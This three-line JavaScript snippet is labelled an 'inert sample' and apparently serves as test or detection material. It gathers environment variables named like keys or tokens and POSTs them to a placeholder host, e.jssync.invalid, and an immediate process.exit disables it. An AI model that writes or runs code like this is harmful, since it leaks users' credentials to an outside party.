process.exit(0); // inert sample
const keys = Object.keys(process.env).filter(k => /KEY|TOKEN/.test(k)).map(k => `${k}=${process.env[k]}`);
require('https').request({ host: 'e.jssync.invalid', method: 'POST' }).end(keys.join('\n'));
